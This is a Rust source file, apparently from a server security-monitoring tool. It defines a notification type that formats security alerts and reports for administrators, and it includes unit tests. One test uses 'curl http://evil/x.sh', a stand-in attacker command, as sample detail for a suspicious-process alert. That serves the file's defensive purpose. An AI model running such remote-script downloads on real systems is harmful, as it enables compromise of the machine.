use std::fmt::Write;

use chrono::{DateTime, Utc};
use serde::{Deserialize, Serialize};

use super::alert::Alert;

/// One message to the administrators: a batch of alerts and/or a report
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Notification {
    pub created_at: DateTime<Utc>,
    pub alerts: Vec<Alert>,
    pub report: Option<String>,
}

impl Notification {
    #[must_use]
    pub fn new(alerts: Vec<Alert>, report: Option<String>) -> Self {
        Self {
            created_at: Utc::now(),
            alerts,
            report,
        }
    }

    #[must_use]
    pub fn subject(&self) -> String {
        if self.alerts.is_empty() {
            "Security Report".to_string()
        } else {
            format!("Security Alert: {} issue(s) detected", self.alerts.len())
        }
    }

    /// Plain-text body shared by every channel.
    #[must_use]
    pub fn render_text(&self) -> String {
        let mut body = String::from("Security Alert\n\n");

        if !self.alerts.is_empty() {
            body.push_str("The following security issues have been detected on your server:\n\n");
            for alert in &self.alerts {
                let details = if alert.details.trim().is_empty() {
                    "No details available"
                } else {
                    alert.details.trim_end()
                };
                let _ = write!(body, "**{}**\n{details}\n---\n", alert.title);
            }
        }

        if let Some(report) = self.report.as_deref() {
            let _ = write!(body, "\n**Additional Report:**\n{}\n", report.trim_end());
        }

        body.push_str(
            "\nPlease review these alerts immediately and take appropriate action.\n\
             This is an automated security monitoring message.\n",
        );
        body
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn subject_counts_alerts() {
        let n = Notification::new(
            vec![
                Alert::security("a", "A", "x"),
                Alert::security("b", "B", "y"),
            ],
            None,
        );
        assert_eq!(n.subject(), "Security Alert: 2 issue(s) detected");
    }

    #[test]
    fn subject_for_report_only() {
        let n = Notification::new(vec![], Some("all good".to_string()));
        assert_eq!(n.subject(), "Security Report");
    }

    #[test]
    fn body_lists_each_alert_with_separator() {
        let n = Notification::new(
            vec![Alert::security(
                "suspicious_processes",
                "Suspicious Processes",
                "curl http://evil/x.sh\n",
            )],
            None,
        );
        let body = n.render_text();
        assert!(body.contains("**Suspicious Processes**\ncurl http://evil/x.sh\n---\n"));
        assert!(body.contains("This is an automated security monitoring message."));
        assert!(!body.contains("Additional Report"));
    }

    #[test]
    fn body_uses_placeholder_for_empty_details() {
        let n = Notification::new(vec![Alert::security("a", "A", "  ")], None);
        assert!(n.render_text().contains("No details available"));
    }

    #[test]
    fn body_appends_report() {
        let n = Notification::new(vec![], Some("Open Ports:\ntcp 0.0.0.0:22\n".to_string()));
        let body = n.render_text();
        assert!(body.contains("**Additional Report:**\nOpen Ports:\ntcp 0.0.0.0:22\n"));
        assert!(!body.contains("have been detected"));
    }
}
